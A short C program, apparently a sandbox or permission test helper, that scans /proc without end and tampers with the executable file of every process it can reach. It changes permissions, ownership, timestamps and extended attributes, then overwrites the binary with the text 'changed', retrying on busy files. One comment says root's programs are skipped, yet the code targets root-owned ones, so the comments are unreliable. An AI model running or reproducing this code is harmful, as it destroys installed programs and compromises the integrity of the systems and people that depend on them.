// Changes the program file of every process that it can look at, as long as it runs. Prints "ready" first.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static void change(const char *exe) {
    struct stat file;
    // Skips programs of the root itself and files in memory.
    if (stat(exe, &file) != 0 || file.st_size < 1000000 || file.st_uid != 0)
        return;
    char path[4096];
    ssize_t length = readlink(exe, path, sizeof path - 1);
    if (length < 0 || strncmp(path, "/bin/", 5) == 0)
        return;
    chmod(exe, 0777);
    chown(exe, 1, 1);
    utimensat(AT_FDCWD, exe, (struct timespec[]){{1, 1}, {1, 1}}, 0);
    setxattr(exe, "user.changed", "1", 1, 0);
    setxattr(exe, "trusted.changed", "1", 1, 0);
    int file_to_write = open(exe, O_WRONLY);
    if (file_to_write < 0 && (file_to_write = open(exe, O_PATH)) >= 0) {
        // Can be written to once no process runs it.
        char held[64];
        snprintf(held, sizeof held, "/proc/self/fd/%d", file_to_write);
        for (int tries = 0; tries < 1000; tries++) {
            int writable = open(held, O_WRONLY);
            if (writable >= 0) {
                write(writable, "changed", 7);
                _exit(9);
            }
            usleep(100);
        }
    }
}

int main(void) {
    puts("ready");
    fflush(stdout);
    DIR *proc = opendir("/proc");
    for (;;) {
        rewinddir(proc);
        for (struct dirent *entry; (entry = readdir(proc));) {
            char exe[300];
            if (atoi(entry->d_name) < 2 || atoi(entry->d_name) == getpid())
                continue;
            snprintf(exe, sizeof exe, "/proc/%s/exe", entry->d_name);
            change(exe);
        }
    }
}
